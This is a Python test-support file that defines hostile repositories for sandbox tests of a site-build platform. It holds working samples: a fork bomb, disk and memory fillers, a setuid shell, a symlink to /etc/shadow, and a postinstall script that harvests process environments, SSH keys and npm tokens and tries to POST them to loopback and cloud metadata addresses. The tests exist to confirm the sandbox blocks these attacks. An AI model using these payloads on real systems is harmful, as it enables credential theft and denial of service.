"""Repositories that attack: what each builds, and how its deployment has to end. `test_attacks.py` deploys them."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.support.hostile_repositories import nested_trees
from tests.support.repositories import commit, git
from tests.support.sites import BUILD, node_project, node_site

# Of the platform that attacks on resources run on, whose limits are small.
LIMITS = {
    "STAGE_TIMEOUT_SECONDS": "30",
    # More than the processes of the fork bomb take.
    "BUILD_MEMORY_MB": "1024",
    "BUILD_DISK_MB": "64",
    "BUILD_DISK_FILES": "30000",
    "BUILD_OUTPUT_MB": "4",
    "RECONCILE_SECONDS": "1",
}
SCRIPT = {"buildCommand": "sh attack.sh", "outputDirectory": "dist"}
SECRET = "correct-horse-battery-staple-41c7"
PAGE = "<h1>harmless</h1>"
_WRITE_PAGE = f"mkdir -p dist; echo '{PAGE}' > dist/index.html\n"


@dataclass(frozen=True, slots=True)
class Target:
    """What there is to attack on the host, and `marker`, which every process of an attack carries in its argv."""

    marker: str
    # A directory outside of all repositories that everybody may write to, with a file `secret`.
    outside: Path
    # The canary's, then the platform's own stores'.
    ports: tuple[int, ...]


@dataclass(frozen=True, slots=True)
class Attack:
    """`code` None: the deployment becomes ready. `advice`: what its message has to say; `log`: what its log has to."""

    name: str
    files: Callable[[Target], dict[str, str]]
    code: str | None
    stage: str = "build"
    advice: tuple[str, ...] = ()
    log: tuple[str, ...] = ()
    never: tuple[str, ...] = ()
    settings: dict[str, Any] = field(default_factory=lambda: dict(SCRIPT))
    # Done to the repository after its first commit.
    arrange: Callable[[Path, Target], object] = lambda _directory, _target: None
    is_from_network: bool = False


def _script(text: str) -> Callable[[Target], dict[str, str]]:
    """MARKER, OUTSIDE and PORT stand for the target's."""

    def files(target: Target) -> dict[str, str]:
        words = {"MARKER": target.marker, "OUTSIDE": str(target.outside), "PORT": str(target.ports[0])}
        script = text
        for word, value in words.items():
            script = script.replace(word, value)
        return {"attack.sh": script}

    return files


_FORK = """
import os, time
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.5)
"""
_HOG = "import sys, time; kept = bytearray(300 << 20); time.sleep(600)"
_GRANDCHILD = """
trap '' TERM INT HUP
(setsid sh -c 'trap "" TERM INT HUP; while :; do sleep MARKER; done' &)
while :; do sleep MARKER; done
"""


def _postinstall(files: dict[str, str]) -> dict[str, str]:
    package = json.loads(files["package.json"])
    package["scripts"]["postinstall"] = "sh attack.sh"
    return files | {"package.json": json.dumps(package)}


def _of_many_stars(_target: Target) -> dict[str, str]:
    return {
        "package.json": json.dumps({"workspaces": ["*a" * 25 + "b"], "private": True}),
        f"{'a' * 100}/package.json": json.dumps({"scripts": {"build": "true"}}),
        f"{'a' * 100}/page.html": PAGE,
    }


_ON_RESOURCES = (
    Attack(
        "memory-bomb",
        _script(f"for i in 1 2 3 4 5 6; do python3 -c '{_HOG}' MARKER & done; wait"),
        "OUT_OF_MEMORY",
        advice=("1024 MiB", "plan"),
    ),
    Attack(
        "disk-filler",
        _script("head -c 900000000 /dev/zero > filler; sleep MARKER"),
        "DISK_FULL",
        advice=("64 MiB", "Write less"),
    ),
    Attack(
        "empty-files",
        _script(
            'node -e \'const fs = require("fs");'
            ' for (let i = 0; i < 60000; i++) fs.closeSync(fs.openSync(`f${i}`, "w"))\'; sleep MARKER'
        ),
        "DISK_FULL",
        advice=("files", "30000"),
    ),
    Attack(
        "shared-memory-filler",
        _script("head -c 5000000000 /dev/zero > /dev/shm/attack-filler || exit 3"),
        "COMMAND_FAILED",
        advice=("exit code 3",),
        log=("No space left",),
    ),
    Attack(
        "device-directory-filler",
        _script("head -c 5000000000 /dev/zero > /dev/attack-filler || exit 4"),
        "COMMAND_FAILED",
        advice=("exit code 4",),
    ),
    Attack(
        "100-mb-line",
        _script(f"head -c 100000000 /dev/zero | tr '\\0' x; echo; {_WRITE_PAGE}"),
        None,
        log=("x" * 1000, "The output passed its limit"),
    ),
    Attack(
        "fork-bomb",
        lambda target: {"attack.sh": f"python3 bomb.py {target.marker}", "bomb.py": _FORK},
        "TIMEOUT",
        advice=("30 seconds", "plan"),
    ),
    Attack(
        "endless-output",
        _script(f"yes MARKER{'y' * 2000}"),
        "TIMEOUT",
        advice=("30 seconds",),
        log=("The output passed its limit",),
    ),
    Attack(
        "stubborn-grandchild",
        lambda target: _postinstall(node_project("") | _script(_GRANDCHILD)(target)),
        "TIMEOUT",
        stage="install",
        advice=("30 seconds",),
        settings=BUILD,
    ),
    Attack(
        "npm-held-by-a-pattern",
        # `npm run` matches the pattern too, and takes exponential time: the build's own.
        _of_many_stars,
        "TIMEOUT",
        advice=("30 seconds",),
        settings={"rootDirectory": "a" * 100},
    ),
)

_THIEF = """
const fs = require("fs"), http = require("http"), net = require("net");
const seen = [];
for (const pid of fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name)))
  for (const file of ["environ", "cmdline"])
    try { seen.push(fs.readFileSync(`/proc/${pid}/${file}`, "latin1")); } catch {}
for (const path of ["/root/.ssh/id_rsa", "/root/.npmrc", "/var/run/docker.sock", "SECRET_FILE"])
  try { seen.push(fs.readFileSync(path, "latin1")); } catch {}
const loot = seen.join("\\n");
console.log(/CLOUDIFY_(SECRET|DATABASE|REDIS|S3|ENCRYPTION)|of-the-host/.test(loot) ? "STOLEN" : "no loot");
const ask = (options) => new Promise((done) => {
  const request = http.request({ host: "127.0.0.1", port: 3128, ...options });
  const say = (answer, socket) => {
    (socket || answer).on("error", () => {}).destroy();
    done(console.log(answer.statusCode < 400 ? "REACHED" : "refused", options.path));
  };
  request.on("connect", say).on("response", say).on("error", (e) => done(console.log("refused", e.code)));
  request.end(options.method === "POST" ? loot : undefined);
});
const connect = (host, port) => new Promise((done) => {
  const socket = net.connect({ host, port, timeout: 3000 }, () => done(console.log("REACHED", host, port)));
  socket.on("error", (e) => done(console.log("refused", host, port, e.code)));
  socket.on("timeout", () => done(console.log("refused", host, port)));
});
(async () => {
  const metadata = ["169.254.169.254", "[fd00:ec2::254]", "10.0.0.1"];
  const ways = process.argv[2] === "proxy" ? ["127.0.0.1", "localhost", "[::1]", "2130706433", ...metadata] : [];
  for (const host of ways) {
    const address = `${host}:${metadata.includes(host) ? 80 : PORTS[0]}`;
    await ask({ method: "CONNECT", path: address });
    await ask({ method: "POST", path: `http://${address}/loot` });
  }
  for (const host of ["127.0.0.1", "::1", "169.254.169.254", "192.0.2.1"])
    for (const port of [...PORTS, 80, 443]) await connect(host, port);
  process.exit(5);
})();
"""


def _thief(target: Target) -> str:
    script = _THIEF.replace("SECRET_FILE", str(target.outside / "secret"))
    return script.replace("PORTS", json.dumps(target.ports))


def _mismatched(_target: Target) -> dict[str, str]:
    files = node_site("never")
    package = json.loads(files["package.json"])
    package["dependencies"] = {"is-number": "7.0.0"}
    return files | {"package.json": json.dumps(package)}


def _link_outside(directory: Path, target: Target) -> None:
    (directory / "out").symlink_to(target.outside)
    commit(directory, {})


def _add_submodule(directory: Path, target: Target) -> None:
    _add_submodule_of(directory, f"file://{target.outside}")


def _add_submodule_inside(directory: Path, target: Target) -> None:
    _add_submodule_of(directory, f"https://[::ffff:0:127.0.0.1]:{target.ports[0]}/site.git")


def _add_submodule_of(directory: Path, url: str) -> None:
    sha = git(directory, "rev-parse", "HEAD")
    modules = f'[submodule "own"]\n\tpath = own\n\turl = {url}\n'
    (directory / ".gitmodules").write_text(modules)
    git(directory, "add", ".gitmodules")
    git(directory, "update-index", "--add", "--cacheinfo", f"160000,{sha},own")
    git(directory, "commit", "--quiet", "--no-gpg-sign", "-m", "Add a submodule")


def _pointer(target: Target) -> dict[str, str]:
    content = (target.outside / "secret").read_bytes()
    oid = hashlib.sha256(content).hexdigest()
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(content)}\n"
    return {"index.html": pointer, ".gitattributes": "*.html filter=lfs diff=lfs merge=lfs -text\n"}


_SPLIT = """
const secret = process.env.SPLIT_SECRET, forms = [secret, Buffer.from(secret).toString("base64")];
const parts = forms.flatMap((form) => [[form, "\\n"], [form.slice(0, 9), form.slice(9) + "\\n"], [...form, "\\n"]]);
const queue = parts.flat();
const next = () => queue.length ? process.stdout.write(queue.shift(), () => setTimeout(next, 5)) : undefined;
console.log("length " + secret.length);
next();
"""

_ON_CONTENT = (
    Attack(
        "postinstall-exfiltration",
        lambda target: _postinstall(
            node_project("") | {"attack.sh": "node thief.js proxy", "thief.js": _thief(target)}
        ),
        "COMMAND_FAILED",
        stage="install",
        advice=("exit code 5", "refused these hosts", "127.0.0.1", "169.254.169.254"),
        log=("no loot", "refused 169.254.169.254", "tried to reach 169.254.169.254"),
        never=("REACHED", "STOLEN"),
        settings=BUILD,
    ),
    Attack(
        "loopback-and-metadata",
        lambda target: {"attack.sh": "node thief.js directly", "thief.js": _thief(target)},
        "COMMAND_FAILED",
        advice=("exit code 5",),
        log=("no loot", "refused 127.0.0.1", "refused 169.254.169.254"),
        never=("REACHED", "STOLEN"),
    ),
    Attack(
        "link-out-of-the-source",
        _script("cat out/secret; (echo x > out/written) && echo WRITTEN; exit 4"),
        "COMMAND_FAILED",
        advice=("exit code 4",),
        never=("of-the-host", "WRITTEN"),
        arrange=_link_outside,
    ),
    Attack(
        "page-that-links-out",
        lambda _target: {"index.html": PAGE},
        # What a repository holds is published without the links that leave it.
        None,
        log=("1 symbolic link (out) to nothing that is published: left out.",),
        settings={},
        arrange=_link_outside,
    ),
    Attack(
        "link-out-of-the-output",
        _script(f"{_WRITE_PAGE}ln -s ../../../../../../../../etc/shadow dist/shadow.txt"),
        "OUTPUT_INVALID",
        advice=("shadow.txt", "leaves", "Remove it"),
    ),
    Attack(
        "link-as-output",
        _script("ln -s OUTSIDE dist; cat dist/secret; (echo x > dist/written) && echo WRITTEN; true"),
        "OUTPUT_DIRECTORY_MISSING",
        advice=("dist",),
        never=("of-the-host", "WRITTEN"),
    ),
    Attack(
        "split-secret",
        lambda _target: {"attack.sh": f"node split.js; {_WRITE_PAGE}", "split.js": _SPLIT},
        None,
        log=(f"length {len(SECRET)}", "***"),
        never=(SECRET, base64.b64encode(SECRET.encode()).decode()),
    ),
    Attack(
        "file-submodule",
        _script("ls -R; " + _WRITE_PAGE),
        "URL_FORBIDDEN",
        stage="clone",
        advice=("Submodule own", "file://"),
        arrange=_add_submodule,
        is_from_network=True,
    ),
    Attack(
        "submodule-on-the-loopback-in-disguise",
        _script("ls -R; " + _WRITE_PAGE),
        "URL_FORBIDDEN",
        stage="clone",
        advice=("Submodule own", "private or local address", "CLOUDIFY_EGRESS_ALLOWED_NETWORKS"),
        arrange=_add_submodule_inside,
        is_from_network=True,
    ),
    Attack(
        "lfs-server-on-the-loopback-in-disguise",
        lambda target: (
            _pointer(target) | {".lfsconfig": f"[lfs]\n\turl = http://[64:ff9b:1::7f00:1]:{target.ports[0]}/\n"}
        ),
        "URL_FORBIDDEN",
        stage="clone",
        advice=(".lfsconfig", "CLOUDIFY_EGRESS_ALLOWED_NETWORKS"),
    ),
    Attack(
        "setuid-shell",
        _script("cp /bin/sh MARKER; chmod 4755 MARKER || install -m 2755 /bin/sh MARKER || exit 6"),
        "COMMAND_FAILED",
        advice=("exit code 6",),
        log=("not permitted",),
    ),
    Attack(
        "tree-bomb",
        lambda _target: {"index.html": PAGE},
        "REPOSITORY_TOO_LARGE",
        stage="clone",
        advice=("500000 files and directories", "submodules included"),
        arrange=lambda directory, _target: nested_trees(directory, width=10, depth=9),
    ),
    Attack(
        "bottomless-tree",
        lambda _target: {"index.html": PAGE},
        "REPOSITORY_TOO_LARGE",
        stage="clone",
        advice=("nests directories",),
        arrange=lambda directory, _target: nested_trees(directory, width=1, depth=1000),
    ),
    Attack("lfs-pointer", _pointer, "REPOSITORY_LFS_MISSING", stage="clone", advice=("index.html", "git lfs fetch")),
    Attack(
        "lfs-server-in-the-file-system",
        lambda target: _pointer(target) | {".lfsconfig": f"[lfs]\n\turl = file://{target.outside}\n"},
        "URL_FORBIDDEN",
        stage="clone",
        advice=(".lfsconfig", "https://"),
    ),
    Attack(
        "pattern-of-many-stars",
        _of_many_stars,
        None,
        settings={
            "rootDirectory": "a" * 100,
            "installCommand": "true",
            "buildCommand": "mkdir dist && cp page.html dist/index.html",
        },
    ),
    Attack(
        "key-of-many-parts",
        # Python's own reader of TOML takes quadratic time for it.
        lambda _target: {"mkdocs.yml": "site_name: x\n", "pyproject.toml": f"{'a.' * 400_000}a = 1\n"},
        "CONFIGURATION_INVALID",
        stage="install",
        advice=("processor time", "pyproject.toml", "Simplify"),
        settings={},
    ),
    Attack(
        "memory-hungry-requirements",
        lambda _target: {"mkdocs.yml": "site_name: x\n", "requirements.txt": "ab\n" * (10 << 20)},
        "CONFIGURATION_INVALID",
        stage="install",
        advice=("MiB of memory", "requirements.txt"),
        settings={},
    ),
    Attack(
        "100000-workspaces",
        lambda _target: {
            "package.json": json.dumps({"workspaces": ["a*"] * 100_000}),
            "site/package.json": json.dumps({"scripts": {"build": "true"}}),
        },
        "CONFIGURATION_INVALID",
        stage="install",
        advice=("5000", "fewer patterns"),
        settings={"rootDirectory": "site"},
    ),
    Attack(
        "deep-json",
        lambda _target: {"package.json": '{"a":' * 100_000},
        "CONFIGURATION_INVALID",
        stage="install",
        advice=("package.json", "nested more than 200 levels"),
        settings={},
    ),
    Attack("lockfile-mismatch", _mismatched, "LOCKFILE_MISMATCH", "install", advice=("npm install",), settings=BUILD),
    Attack(
        "20001-files",
        lambda _target: {
            "attack.sh": "mkdir dist; node many.js",
            "many.js": 'for (let i = 0; i < 20001; i++) require("fs").writeFileSync(`dist/${i}.html`, "x");',
        },
        "OUTPUT_TOO_LARGE",
        stage="upload",
        advice=("20000 files",),
    ),
    Attack(
        "names-that-are-not-utf-8",
        _script(_WRITE_PAGE + "echo x > \"$(printf 'dist/caf\\351.html')\""),
        "OUTPUT_INVALID",
        stage="upload",
        advice=("UTF-8", "caf"),
    ),
    Attack(
        "unreadable-file-in-the-output",
        _script(_WRITE_PAGE + "echo x > dist/shut.txt; chmod 000 dist/shut.txt"),
        "OUTPUT_INVALID",
        advice=("dist/shut.txt", "Permission denied", "chmod"),
    ),
    Attack(
        "unreadable-directory-in-the-output",
        _script(_WRITE_PAGE + "mkdir dist/shut; chmod 000 dist/shut"),
        "OUTPUT_INVALID",
        advice=("dist/shut", "Permission denied", "chmod"),
    ),
    Attack(
        "unreadable-output-directory",
        _script(_WRITE_PAGE + "chmod 000 dist"),
        "OUTPUT_INVALID",
        advice=("dist", "can't be read", "chmod"),
    ),
    Attack("file-as-output-directory", _script("echo x > dist"), "OUTPUT_INVALID", advice=("dist is a file, or",)),
    Attack("no-output-directory", _script("mkdir public"), "OUTPUT_DIRECTORY_MISSING", advice=("dist",)),
)

ATTACKS = {attack.name: attack for attack in (*_ON_RESOURCES, *_ON_CONTENT)}
ON_RESOURCES = frozenset(attack.name for attack in _ON_RESOURCES)
# They use all processors that they get until a limit of time ends them.
ENDLESS = frozenset(
    attack.name for attack in ATTACKS.values() if attack.code == "TIMEOUT" or "processor time" in attack.advice
)
